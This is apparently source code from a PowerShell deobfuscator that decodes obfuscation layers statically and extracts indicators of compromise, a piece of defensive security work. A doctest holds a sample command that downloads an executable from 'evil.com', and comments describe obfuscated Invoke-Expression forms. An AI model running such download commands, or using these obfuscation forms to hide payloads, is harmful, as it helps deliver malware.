    """The tokens _fold can rewrite: '(' and the words and types with a backtick or a
    lower-upper pair; it passes over every other token (i += 1), so it visits these alone."""
    if (c := native()) is not None:
        return c.ps_fold_visit(toks, _FOLD_ROLES)
    hint = _FOLD_HINT.search
    return [x for x, t in enumerate(toks)
            if t[0] == "lparen" or (t[0] in ("word", "type") and hint(t[1]))]
# a fold is a layer only with several rewrites, or one of these (a lone [char]27 is how people write)
_DECISIVE = frozenset({"bxor", "base64", "deflate", "gzip", "reverse", "member-string", "backticks"})


def _random_case(word: str) -> bool:
    if _CASE_ANY.search(word) is None:  # no signal at all: the common case, one search
        return False
    signals = 0
    for m in _CASE_SIGNAL.finditer(word):  # up to the second signal (base64 words have thousands)
        x = m.group(1)
        if not (len(x) == 3 and x[:2] in _TWO_LETTER):
            signals += 1
            if signals == 2:
                return True
    return signals == 1 and _LOWER_RUN.search(word) is None


@lru_cache(maxsize=4096)
def _odd_word(word: str) -> bool:
    """A word _fold rewrites: one with a backtick that escapes nothing, or in random case."""
    return ("`" in word and _IDLE_BACKTICK.search(word) is not None) or _random_case(word)


# What a parenthesis may hold and still be no rewrite: literals, variables, separators and the
# operators that record no technique and cap no size (a backtick in a name or a string is one).
_INERT_KINDS = frozenset({"number", "comma", "newline", "semicolon"})
_INERT_OPS = frozenset({
    "-eq", "-ne", "-ceq", "-cne", "-ieq", "-ine", "-like", "-notlike", "-match", "-notmatch",
    "-gt", "-lt", "-ge", "-le", "-and", "-or", "-not", "!", "-", "=",
})
_CHUNK = 4096  # the most tokens _inert goes through (it reads no clock)


def _inert(toks: list[Tok], i: int, end: int) -> bool:
    """Whether the parenthesis from i to end holds only the above: then its value cannot be
    rewritten (that takes a technique recorded), and evaluating it cannot stop on a size cap or
    on the depth cap (each operator nests one level at most: `- - -x`), so _fold passes over it.
    A long one is left to the folder, whose clock checks bound it (the scan has none)."""
    if end - i > _CHUNK:
        return False
    ops = 0
    for j in range(i + 1, end):
        k, s, _ = toks[j]
        if k in _INERT_KINDS:
            continue
        if k == "variable" or k == "string":
            if "`" in s:
                return False
        elif k == "operator" and _norm_op(s) in _INERT_OPS:
            ops += 1
        else:
            return False
    return ops < MAX_DEPTH - 2


def _fold(text: str, sig: list[Tok], env: dict[str, Any], ctx: _Ctx,
          tables: _Tables | None = None) -> tuple[set[str], str]:
    """Rewrite what folds in place: ``("Down"+"load")`` -> ``'Download'``, ``I`E`X`` -> ``IEX``."""
    tech: set[str] = set()
    f = _Folder(sig, dict(env), ctx, tech, tables)
    edits: list[tuple[int, int, str]] = []
    cased: set[str] = set()
    n = len(sig)
    done = prev = 0  # done: where the last parenthesis that folded ends
    for i in _fold_visit(sig):
        if i < done:
            continue
        ctx.ticks += i - prev  # ctx.tick(), inlined: a step a token
        if ctx.ticks >= TICKS:
            ctx.check()
        prev = i
        kind, word, start = sig[i]
        if kind == "lparen":
            end = f.match_close(i)
            if _inert(sig, i, end):
                continue
            local: set[str] = set()
            f.tech = local
            try:
                v, j = f.primary(i)
            except _Stop:
                break
            if isinstance(v, str) and end < n and j == end + 1 and local and len(v) < 100_000:
                if i and sig[i - 1][0] == "dot":  # .("Down"+"loadString"): a computed member name
                    local.add("member-string")
                tech.update(local)
                # the parentheses stay: they may be an argument list or a member name
                edits.append((start, sig[end][2] + 1, "('" + v.replace("'", "''") + "')"))
                done = end + 1
        elif _odd_word(word) if len(word) <= _SHORT else _odd_word.__wrapped__(word):  # a word or a type
            new = word_value(sig[i])
            if new != word:
                tech.add("backticks")
            if _random_case(new):  # normalised for display: iNvOkE-eXpReSsIoN -> invoke-expression
                tech.add("case")
                cased.add(new.lower())
                new = new.lower()
            edits.append((start, start + len(word), new))
    # random case counts from two different words on (NuGet alone is a name, not obfuscation)
    if not edits or not (tech & _DECISIVE or len(cased) >= 2 or (len(edits) >= 3 and tech & _STRONG)):
        return tech, text
    out = []
    last = 0
    for s, e, rep in edits:
        out.append(text[last:s])
        out.append(rep)
        last = e
    out.append(text[last:])
    return tech, "".join(out)


# -- encodings the folder does not evaluate --------------------------------------------------------
# Invoke-Obfuscation's ENCODING "special characters" and "whitespace" forms keep their data in
# variables set by statements and in string lengths, which the expression folder does not track.
# Two small passes decode them from the text alone (nothing runs) when an Invoke-Expression step
# found nothing; each only accepts a script built the way those encoders build it.

# a variable named with special characters only: ${;} ${=} ${"} (a name with a letter is a name)
_SC_VAR = re.compile(r"\$\{[^\w\s}`]+\}")
_SC_HINT = re.compile(r"\$\{[^\w\s}`]+\}\s*=\s*\+\+\s*\$\{")
_SC_ASSIGN = re.compile(r"\s*(\$\{[^\w\s}`]+\})\s*=(?!=)\s*(.*?)\s*\Z", re.S)
# the string forms of the methods `"".Method` names (PowerShell shows a PSMethod by its overloads)
_METHOD_SIGNATURES = {"insert": "string Insert(int startIndex, string value)"}
_SC_INTERP = {"$(@{})": "System.Collections.Hashtable", "$?": "True"}


def _split_statements(text: str, ctx: _Ctx) -> list[str]:
    """Top-level statements (``;`` and newlines outside quotes, ``${...}`` names and brackets)."""
    out: list[str] = []
    depth = start = i = 0
    n = len(text)
    while i < n:
        ctx.tick()
        c = text[i]
        if c == "$" and text.startswith("${", i):
            i = text.find("}", i) + 1 or n
            continue
        if c == "'":
            while True:
                i = text.find("'", i + 1)
                if i < 0 or not text.startswith("''", i):
                    break
                i += 1
            i = n if i < 0 else i + 1
            continue
        if c == '"':
            i = _dq_end(text, i)
            continue
        if c in "([{":
            depth += 1
        elif c in ")]}":
            depth -= 1
        elif c in ";\n" and depth == 0:
            out.append(text[start:i])
            start = i + 1
        i += 1
    out.append(text[start:])
    return [s for s in out if s.strip()]


def _dq_end(text: str, i: int) -> int:
    """The index after the double-quoted string opening at i (``${"}`` inside it is a name)."""
    n = len(text)
    i += 1
    while i < n:
        c = text[i]
        if c == "`":
            i += 2
        elif c == "$" and text.startswith("${", i):
            i = text.find("}", i) + 1 or n
        elif c == '"':
            if text.startswith('""', i):
                i += 2
            else:
                return i + 1
        else:
            i += 1
    return n


def _sc_interpolate(body: str, env: dict[str, Any]) -> str | None:
    """A double-quoted string's text with special-character variables and $(@{}) / $? put in."""
    out: list[str] = []
    i = 0
    while i < len(body):
        c = body[i]
        if c == "$":
            m = _SC_VAR.match(body, i)
            if m is not None:
                if m.group() not in env:
                    return None
                out.append(_to_str(env[m.group()]))
                i = m.end()
                continue
            for k, v in _SC_INTERP.items():
                if body.startswith(k, i):
                    out.append(v)
                    i += len(k)
                    break
            else:
                return None  # any other variable is not known here
            continue
        if c == "`" and i + 1 < len(body):
            i += 1
            c = body[i]
        out.append(c)
        i += 1
    return "".join(out)


def _sc_term(expr: str, i: int, env: dict[str, Any]) -> tuple[Any, int]:
    """One operand of a special-character expression at i: (value or None, next index)."""
    while i < len(expr) and expr[i].isspace():
        i += 1
    if expr.startswith('""', i) and expr[i + 2:i + 4] == ".(" and expr.endswith(")"):
        name = _sc_expr(expr[i + 4:-1], env)  # "".("Insert"): the method, shown as its signature
        return (_METHOD_SIGNATURES.get(name.lower()) if isinstance(name, str) else None), len(expr)
    m = _SC_VAR.match(expr, i)
    if m is not None:
        v: Any = env.get(m.group())
        i = m.end()
    elif expr.startswith('"', i):
        end = _dq_end(expr, i)
        v = _sc_interpolate(expr[i + 1:end - 1], env)
        i = end
    else:
        return None, i
    while v is not None and expr.startswith("[", i):  # "$(@{})"["${+}${|}"]: a character of it
        j = i + 1  # the index is a variable or a string (a ']' may be in either: ${]})
        if expr.startswith("${", j):
            close = expr.find("}", j) + 1
        elif expr.startswith('"', j):
            close = _dq_end(expr, j)
        else:
            return None, i
        k = _to_int(_sc_expr(expr[j:close], env)) if expr.startswith("]", close) else None
        v = v[k] if isinstance(v, str) and k is not None and 0 <= k < len(v) else None
        i = close + 1
    return v, i


def _sc_expr(expr: str, env: dict[str, Any]) -> Any:
    """The value of a special-character assignment's right side, or None when it is anything else."""
    e = expr.strip()
    if re.fullmatch(r"\+\s*[$@]\(\s*\)", e):  # +$() is 0
        return 0
    m = re.fullmatch(r"\+\+\s*(\$\{[^\w\s}`]+\})", e)
    if m is not None:
        if not isinstance(env.get(m.group(1)), int):
            return None
        env[m.group(1)] += 1
        return env[m.group(1)]
    v, i = _sc_term(e, 0, env)
    while v is not None and i < len(e):
        while i < len(e) and e[i].isspace():
            i += 1
        if i == len(e):
            break
        if e[i] != "+":
            return None
        r, i = _sc_term(e, i + 1, env)
        if r is None:
            return None
        v = _to_str(v) + _to_str(r) if isinstance(v, str) or isinstance(r, str) else v + r
    return v


def _sc_literal(m: re.Match[str], env: dict[str, Any], in_string: bool) -> str:
    v = env[m.group()]
    if in_string:
        return re.sub(r'([`"$])', r"`\1", _to_str(v))
    return str(v) if isinstance(v, int) else "'" + _to_str(v).replace("'", "''") + "'"


def _special_chars(text: str, env: dict[str, Any], ctx: _Ctx) -> str | None:
    """Invoke-Obfuscation's special-character encoding: ``${;}=+$();${=}=${;};${+}=++${;};...``
    give 0-9 to variables named by symbols, ``${"}`` becomes ``[CHar]`` and ``${;}`` ``iex`` from
    characters of ``"$(@{})"`` and ``"$?"``, then ``"${"}${.}${(}+..."|&${;}`` runs the result.
    Evaluates the assignments in order and writes what remains with the values put in."""
    if len(_SC_HINT.findall(text[:200_000])) < 5:
        return None
    vals: dict[str, Any] = {}
    rest: list[str] = []
    assigned = 0
    for st in _split_statements(text, ctx):
        m = _SC_ASSIGN.match(st)
        if m is not None:
            v = _sc_expr(m.group(2), vals)
            if v is None:
                return None
            vals[m.group(1)] = v
            assigned += 1
            continue
        if any(x.group() not in vals for x in _SC_VAR.finditer(st)):
            return None
        out: list[str] = []
        i = 0
        while i < len(st):  # values into strings as text, elsewhere as literals
            if st[i] == '"':
                end = _dq_end(st, i)
                out.append(_SC_VAR.sub(lambda x: _sc_literal(x, vals, True), st[i:end]))
                i = end
            else:
                m2 = _SC_VAR.match(st, i)
                out.append(_sc_literal(m2, vals, False) if m2 else st[i])
                i = m2.end() if m2 else i + 1
        rest.append("".join(out).strip())
    if assigned < 10 or not rest:
        return None
    new = "; ".join(rest)
    # a layer only when what is left runs a string (a look-alike that just prints stays as it is)
    toks = _tokens_in_time(new, ctx)
    return new if _script_step(toks, dict(env), ctx) is not None else None


_WS_STRING = re.compile(r"'([ \t]{16,})'")
_WS_DIGIT_RULE = re.compile(r"(?i)\.length\s*-\s*1\b")


def _whitespace(text: str, ctx: _Ctx) -> str | None:
    """Invoke-Obfuscation's whitespace encoding: each character code's decimal digits as runs of
    one whitespace character (digit + 1 long) split by the other, codes split by it twice, turned
    back by ``$_.Length - 1`` and piped to Invoke-Expression. The string's longest decoding wins."""
    # the cheap tests first ("length": letters IGNORECASE folds to ASCII only)
    if (not _WS_STRING.search(text) or b"length" not in _ascii_low(text)
            or not _WS_DIGIT_RULE.search(text)
            or not re.search(r"(?i)iex|invoke-expression|[&.]\s*\(", text)):
        return None
    best = ""
    for m in _WS_STRING.finditer(text):
        ctx.tick(len(m.group(1)) // 64)
        body = m.group(1)
        for mark, sep in ((" ", "\t"), ("\t", " ")):
            chars: list[str] = []
            for code in body.strip(sep).split(sep * 2):
                digits = code.split(sep)
                if not all(d and d == mark * len(d) and len(d) <= 10 for d in digits):
                    chars = []
                    break
                chars.append(chr(int("".join(str(len(d) - 1) for d in digits))))
            decoded = "".join(chars)
            if len(decoded) > len(best) and len(decoded) >= 4 and not _NON_TEXT.search(decoded):
                best = decoded
    return best or None


def _encoding_step(text: str, env: dict[str, Any], ctx: _Ctx) -> tuple[set[str], str] | None:
    """The special-character or whitespace form: (technique, the decoded layer) or None."""
    if "${" in text and "++" in text:
        new = _special_chars(text, env, ctx)
        if new is not None:
            return {"special-chars"}, new
    if "'" in text and ("\t" in text or "  " in text):
        new = _whitespace(text, ctx)
        if new is not None:
            return {"whitespace-encoding"}, new
    return None


# -- IOCs -----------------------------------------------------------------------------------------

_URL = re.compile(r"(?i)\b(?:https?|ftp)://[^\s'\"`<>(){}\[\],;|\\^]+")
_IP = re.compile(r"(?<![\d.])(?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){3}(?![\d.])")
_IP_CAND = re.compile(r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[\d.]*")
_TLDS = ("com net org info biz ru cn io top xyz de uk jp br in pl tr su pw cc tk ml ga cf gq online site "
         "club me us eu fr it nl kr vn ir ua co tv ws onion").split()
# a domain is found from its TLD leftwards (a scan from every dotted word was the cost of IOCs)
_TLD_HIT = re.compile(r"(?i)\.(?:" + "|".join(sorted(_TLDS, key=len, reverse=True)) + r")(?![\w-]|\.\w)")
# the same on lower-cased ASCII bytes (same positions, \w the same), 4x faster than IGNORECASE
_TLD_HIT_LOW = re.compile(_TLD_HIT.pattern.removeprefix("(?i)").encode())
_LEFT_RUN = re.compile(r"[\w.-]*")
_LABEL = re.compile(r"(?i)[a-z0-9](?:[a-z0-9-]*[a-z0-9])?")
IOC_SCAN = 256 * 1024  # IOCs are looked for in the first 256 KiB of each layer


def _is_host(s: str) -> bool:
    """A DNS name by its labels (a regex with nested quantifiers here backtracks for seconds)."""
    return len(s) <= 253 and all(len(x) <= 63 and _LABEL.fullmatch(x) for x in s.split("."))


_PATH = re.compile(r"""(?i)(?:\b[a-z]:\\|%\w+%\\|\$env:\w+\\|\\\\[\w.-]+\\)[^\s'"`<>|*?;,()]+""")


# Where a match of _URL, _PATH or _IP_CAND can start, found by str.find or patterns that begin
# with a literal (the patterns themselves try a match at every character, ~20 MB/s): "://" is 3
# to 5 characters after a URL's start; a path starts with a drive letter before ":\\", a '%',
# "$env:" or "\\\\"; an IPv4 candidate 1 to 3 digits before its first dot.
# [eEnNvV] is (?i) here: no other character folds to them
_ENV_AT = re.compile(r"\$(?=[eE][nN][vV]:)")
_IP_AT = re.compile(r"\.(?=\d{1,3}\.\d{1,3}\.\d)")


def _url_starts(text: str) -> list[int]:
    return [i - d for i in _find_all(text, "://") for d in (5, 4, 3) if i >= d]


def _path_starts(text: str) -> list[int]:
    """Where a _PATH match can start (in ASCII text "$env:" in any case is in the lower-cased bytes)."""
    env = _find_all(_ascii_low(text), b"$env:") if text.isascii() else [m.start() for m in _ENV_AT.finditer(text)]
    return [i - 1 for i in _find_all(text, ":\\")] + _find_all(text, "%") + env + _find_all(text, "\\\\")


class _Late(Exception):
    """The IOC scan ran past its deadline."""


def _finditer_at(rx: re.Pattern[str], text: str, starts: list[int],
                 late: Callable[[], bool] | None = None) -> list[re.Match[str]]:
    """rx.finditer(text) when every match of rx starts at one of *starts* (a superset): the
    same matches, each tried only there. A match is the leftmost one at or after the end of
    the previous, so trying the candidates in order and skipping those inside a match is exact."""
    out = []
    end = 0
    for n, s in enumerate(sorted(set(starts))):
        if late is not None and not n & 127 and late():
            raise _Late
        if s >= end and (m := rx.match(text, s)) is not None:
            out.append(m)
            end = m.end()
    return out


def extract_iocs(text: str) -> dict[str, list[str]]:
    """URLs, domains, IPv4 addresses and file paths in *text*, in order of first appearance.

    >>> extract_iocs("(New-Object Net.WebClient).DownloadFile('http://evil.com/a.exe','C:\\\\t\\\\a.exe')")
    {'urls': ['http://evil.com/a.exe'], 'domains': ['evil.com'], 'ips': [], 'paths': ['C:\\\\t\\\\a.exe']}
    """
    return _iocs(text, None)[0]


def _iocs(text: str, late: Callable[[], bool] | None) -> tuple[dict[str, list[str]], bool]:
    """extract_iocs(text), and whether it finished: once *late()* is true the kinds not yet
    scanned stay empty and the one being scanned keeps what it found."""
    found: dict[str, list[str]] = {"urls": [], "domains": [], "ips": [], "paths": []}
    try:
        _scan_iocs(text[:IOC_SCAN], found, late)
    except _Late:
        return found, False
    return found, True


def _left(text: str, at: int) -> int:
    r"""Where the run of [\w.-] (253 at most) that ends at *at* starts, read backwards: a
    re.search(r"[\w.-]{1,253}\Z", text, at - 253, at) retries the run from each character."""
    return at - _LEFT_RUN.match(text[max(0, at - 253):at][::-1]).end()


def _scan_iocs(text: str, found: dict[str, list[str]], late: Callable[[], bool] | None) -> None:
    def uniq(xs: Any) -> list[str]:
        return list(dict.fromkeys(xs))[:1000]

    def stop_if_late() -> None:
        if late is not None and late():
            raise _Late

    starts = _url_starts(text)
    urls = found["urls"] = uniq(m.group().rstrip(".'\"") for m in _finditer_at(_URL, text, starts, late))
    stop_if_late()
    hosts = [re.sub(r"(?i)^[a-z]+://(?:[^@/]*@)?", "", u).split("/")[0].split(":")[0].split("?")[0].lower() for u in urls]
    bare = []
    tlds = (_TLD_HIT_LOW.finditer(_ascii_low(text)) if text.isascii()
            else _TLD_HIT.finditer(text))
    for n, m in enumerate(tlds):
        if not n & 31:
            stop_if_late()
        left = _left(text, m.start())
        if left == m.start() or text[m.end():m.end() + 1] == "(":
            continue
        name = text[left:m.end()].lstrip(".-").lower()
        before = text[left - 1:left] if left else ""
        if "." in name and _is_host(name) and before not in ("@", "$", "\\", "/", "-"):
            bare.append(name)
    found["domains"] = uniq([h for h in hosts if h and not _IP.fullmatch(h)] + bare)
    stop_if_late()
    starts = [m.start() - d for m in _IP_AT.finditer(text) for d in (3, 2, 1) if m.start() >= d]
    found["ips"] = uniq(m.group() for m in _finditer_at(_IP_CAND, text, starts, late)
                        if _IP.fullmatch(m.group()))
    stop_if_late()
    starts = _path_starts(text)
    found["paths"] = uniq(m.group().rstrip(".") for m in _finditer_at(_PATH, text, starts, late))


# -- driver ---------------------------------------------------------------------------------------


def _tokens_in_time(text: str, ctx: _Ctx) -> list[Tok]:
    """code_tuples(text), or _Stop (time budget) when the scan was cut short: the tokenizer
    stops at its deadline with the tokens so far, and a partial list must not be read as whole."""
    limit = ctx.token_deadline()
    toks = code_tuples(text, limit, ctx.token_clock)
    ctx.spent += len(toks) % 1024 * TOKEN_S  # (the clock counted each whole 1024)
    if ctx.now() > limit:
        ctx.reason = ctx.reason or "time budget"
        raise _Stop
    return toks


def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = MAX_LAYERS, max_bytes: int = MAX_BYTES) -> Result:
    """Peel every layer that static folding can recover from *text* (a script or a command line).

    Never raises and never runs anything; a time, layer or size limit ends the work early and is
    reported in ``truncated``/``reason``.

    >>> r = deobfuscate("&($ShellId[1]+$ShellId[13]+'x') ('Write-Host ' + [char]72 + 'i')")
    >>> r.final, sorted(r.techniques)
    ('Write-Host Hi', ['char-codes', 'concat', 'iex', 'iex-alias'])
    """
    res = Result()
    ctx = _Ctx(budget_ms, max_bytes)
    try:
        if isinstance(text, bytes | bytearray):
            text = bytes(text[: max_bytes * 2]).decode("utf-8", "replace")
        elif not isinstance(text, str):
            text = str(text)
        if len(text) > max_bytes:
            text = text[:max_bytes]
            res.truncated, res.reason = True, "input size cap"
        env: dict[str, Any] = dict(_AUTO_VARS)
        cur = text
        ctx.reserve(cur)
        seen = {cur}
        toks: list[Tok] | None = None
        toks_of = ""
        tables: _Tables | None = None  # those of toks
        for _depth in range(max_layers + 1):
            if _depth == max_layers:
                res.truncated, res.reason = True, res.reason or "layer cap"
                break
            if ctx.now() > ctx.deadline:
                res.truncated, ctx.reason = True, ctx.reason or "time budget"
                break
            step = _launcher(cur, env, ctx)
            toks = None
            if step is not None:
                techs, nxt = {step[0]}, step[1]
            else:
                toks = _tokens_in_time(cur, ctx)
                toks_of = cur
                tables = _Tables(toks)
                found = (_script_step(toks, env, ctx, tables) or _encoding_step(cur, env, ctx)
                         or _child_powershell(cur, env, ctx))
                if found is None:
                    break
                techs, nxt = found
            if len(nxt) > max_bytes:
                nxt = nxt[:max_bytes]
                res.truncated, res.reason = True, "layer size cap"
            if not nxt.strip() or nxt in seen:
                break
            seen.add(nxt)
            ctx.reserve(nxt)
            order = ["encodedcommand", "launcher", "base64", "deflate", "gzip", "bxor", "char-codes", "format", "concat", "join", "split", "replace", "reverse", "backticks", "case", "member-string", "iex-alias", "iex"]
            name = "+".join(t for t in order if t in techs) or "+".join(sorted(techs))
            res.layers.append(Layer(name, nxt))
            res.techniques.update(techs)
            cur = nxt
        if ctx.now() <= ctx.deadline:
            if toks is None or toks_of != cur:
                toks = _tokens_in_time(cur, ctx)
                tables = _Tables(toks)
            techs, folded = _fold(cur, toks, env, ctx, tables)
            res.techniques.update(techs)
            if folded != cur:  # _fold keeps the text when what it undid is trivial
                res.layers.append(Layer("+".join(sorted(techs)) or "fold", folded))
                cur = folded
        else:
            res.truncated, ctx.reason = True, ctx.reason or "time budget"
    except _Stop:
        res.truncated = True
    except Exception as e:  # noqa: BLE001
        # a construct the folder mishandles must not crash the pipeline: keep what was peeled
        # (the fuzz test asserts this never happens on its inputs)
        res.truncated, res.reason = True, f"internal: {type(e).__name__}"
    if ctx.reason and not res.reason:
        res.reason = ctx.reason
        res.truncated = res.truncated or ctx.reason in ("time budget", "size cap", "depth cap", "decompression cap")
    res.final = res.layers[-1].text if res.layers else (text if isinstance(text, str) else "")
    # str.lower() of a big non-ASCII text costs ~15 ns a character: look in its ASCII bytes
    # first (these words can only come from ASCII letters and '-', adjacent once the rest is gone)
    low8 = _ascii_low(res.final)
    low = res.final.lower() if b"convertto-securestring" in low8 or b"securestringtobstr" in low8 else ""
    if "convertto-securestring" in low or "securestringtobstr" in low:
        res.secure_string = True
        res.techniques.add("securestring")
    # out of time: IOCs from the head of each text only; past the end of the budget no more
    now = ctx.now()
    scan = IOC_SCAN if now <= ctx.deadline else IOC_SCAN // 8
    # and no more than the rest of the budget can scan (~30 ns a character; the scan checks the
    # clock between its steps only, so a long one must not start late)
    affordable = max(0, int((ctx.end - now) / IOC_CHAR_S))
    done = affordable >= min(scan, max(len(x.text) for x in res.layers) if res.layers else len(res.final))
    scan = min(scan, affordable)

    def late() -> bool:
        return ctx.now() > ctx.end

    iocs, finished = _iocs(res.final[:scan], late)
    ctx.spent += min(scan, len(res.final)) * IOC_CHAR_S
    done = done and finished
    for layer in res.layers[:-1]:
        if not done:
            break
        more, done = _iocs(layer.text[:scan], late)
        ctx.spent += min(scan, len(layer.text)) * IOC_CHAR_S
        for key, vals in more.items():
            iocs[key] = list(dict.fromkeys(iocs[key] + vals))
    if not done:
        res.truncated, res.reason = True, res.reason or "time budget"
    res.iocs = iocs
    return res
